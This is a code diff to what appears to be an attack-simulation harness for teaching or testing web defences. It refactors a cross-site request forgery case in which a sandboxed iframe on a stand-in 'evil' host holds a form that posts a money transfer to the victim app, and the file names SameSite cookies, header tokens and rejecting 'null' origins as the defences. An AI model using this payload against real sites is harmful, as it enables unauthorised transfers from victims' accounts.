@@ -3,6 +3,10 @@
 import { stopped, succeeded, type Attack } from '../attack.ts'
 import { APP, EVIL } from '../world/hosts.ts'
 
+const page: NonNullable<Attack['lure']> = (_, app, { email }) => `<!doctype html>
+<iframe sandbox="allow-forms allow-popups" srcdoc="<form action='${app}/api/transfer' method='post' target='_blank'>
+<input name='to' value='${email}'><button>Win</button></form>"></iframe>`
+
 export const formSandboxed: Attack = {
   name: 'form-sandboxed',
   group: 'other sites',
@@ -10,18 +14,15 @@ export const formSandboxed: Attack = {
   what: 'The form stands in a sandboxed frame and opens a new window when the victim clicks, so that the request does not say where it comes from.',
   why: 'As above; and who checks the Origin header must know that “null” is not “absent”.',
   stops: 'SameSite written out, a token in a header, or refusing every origin but one’s own, “null” included.',
+  lure: page,
   control: 'session',
   succeedsOn: ['session', 'readable-cookie', 'httponly-cookie'],
   async run(scene) {
     await scene.signIn()
-    const form = `<form action='${APP}/api/transfer' method='post' target='_blank'><input name='to' value='${scene.attacker.email}'><button>Win</button></form>`
-    await scene.thief.publish({
-      address: `${EVIL}/prize`,
-      body: `<!doctype html><iframe sandbox="allow-forms allow-popups" srcdoc="${form}"></iframe>`,
-    })
+    await scene.thief.publish({ address: `${EVIL}/prize`, body: page('evil', APP, scene.attacker) })
     const lure = await scene.browser.newPage()
     await lure.goto(`${EVIL}/prize`)
-    const arrived = scene.browser.waitForEvent('response', (answer) => answer.url() === `${APP}/api/transfer`)
+    const arrived = scene.arrival('POST', '/api/transfer')
     await lure.frameLocator('iframe').locator('button').click()
     await arrived
     return scene.ledger.find({ deed: 'transfer', by: scene.victim.email }).length > 0
